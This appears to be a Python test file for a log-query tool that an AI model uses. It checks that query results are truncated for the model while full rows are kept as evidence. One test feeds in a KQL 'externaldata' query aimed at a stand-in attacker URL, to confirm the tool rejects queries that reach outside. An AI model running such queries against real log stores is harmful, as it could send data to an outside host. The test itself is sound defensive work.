"""What a model reads of the logs is bounded; the evidence has all of it."""

import json
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime

import pytest

from orchestrator.core.errors import QueryError, ToolError
from orchestrator.core.evidence import FREE_QUERY
from orchestrator.core.ports import (
    Document,
    Hit,
    QueryLimits,
    QueryParameter,
    SearchQuery,
    TableSchema,
    WriteResult,
)
from orchestrator.core.recording import Recorder
from orchestrator.core.runs import RunContext
from orchestrator.core.table import Column, ColumnType, Table
from orchestrator.core.window import Window
from plugins.monitor.plugin import LogTools

COLUMN = Column("Message", ColumnType.STRING)


class ManyLogs:
    """Logs of many tables that answer with the rows given."""

    def __init__(self, rows: Sequence[str] = (), tables: int = 1, error: str = "") -> None:
        self._rows, self._tables, self._error = rows, tables, error

    async def query(
        self,
        kql: str,
        *,
        parameters: Sequence[QueryParameter] = (),
        window: Window | None = None,
        limits: QueryLimits | None = None,
    ) -> Table:
        return Table((COLUMN,), tuple((row,) for row in self._rows))

    async def describe(self, kql: str, *, parameters: Sequence[QueryParameter] = ()) -> tuple[Column, ...]:
        return (COLUMN,)

    async def schema(self) -> Mapping[str, TableSchema]:
        if self._error:
            raise QueryError(self._error)
        return {f"T{number}": TableSchema(name=f"T{number}", columns=(COLUMN,) * 10) for number in range(self._tables)}


class NoIndex:
    """An index that is never asked."""

    async def search(self, query: SearchQuery) -> tuple[Hit, ...]:
        return ()

    async def write(self, documents: Sequence[Document]) -> tuple[WriteResult, ...]:
        return ()

    async def delete(self, ids: Sequence[str]) -> tuple[WriteResult, ...]:
        return ()


def context_of(*rows: str) -> RunContext:
    """A run on logs that hold these rows."""
    return RunContext(
        run="r",
        session="s",
        asked="?",
        alert=None,
        now=datetime(2026, 5, 4, tzinfo=UTC),
        zone="UTC",
        source="files",
        given={},
        remembered={},
        previous=None,
        recorder=Recorder(logs=ManyLogs(rows), index=NoIndex(), source="files", found=lambda _: None),
        emit=lambda _: None,
    )


@pytest.mark.parametrize(("rows", "shown"), [(["a"] * 70, 50), (["x" * 5_000] * 70, 50), (["\u4e2d" * 400] * 70, 12)])
async def test_rows_are_cut_to_what_a_model_can_read(rows: list[str], shown: int) -> None:
    """By number, by cell and in all; the evidence keeps them whole, and is marked as a model's own query."""
    context = context_of(*rows)
    told = json.loads(await LogTools(ManyLogs()).query("T", run=context))
    assert (told["shown"], told["total"]) == (shown, 70)
    assert len(json.dumps(told)) < 60_000
    [evidence] = context.recorder.evidence()
    assert (evidence.row_count, evidence.purpose) == (70, FREE_QUERY)
    assert context.recorder.tables()["E1"].rows[0] == (rows[0],)


async def test_of_many_tables_the_names_alone_are_told() -> None:
    """And then the columns of one."""
    tools = LogTools(ManyLogs(tables=100))
    assert json.loads(await tools.tables())["tables"][:2] == ["T0", "T1"]
    assert json.loads(await tools.tables("T7")) == {"T7": {"Message": "string"}}
    with pytest.raises(ToolError, match="no such table"):
        await tools.tables("T100")


async def test_a_schema_that_cannot_be_read_is_told() -> None:
    """To the model, as it may go on without."""
    with pytest.raises(ToolError, match="no access"):
        await LogTools(ManyLogs(error="no access")).tables()


async def test_a_query_that_reaches_outside_is_not_asked() -> None:
    """Nor is it evidence."""
    with pytest.raises(ToolError, match="externaldata reaches outside"):
        await LogTools(ManyLogs()).query("externaldata(a: string)['https://evil.example/?q=1']", run=context_of())
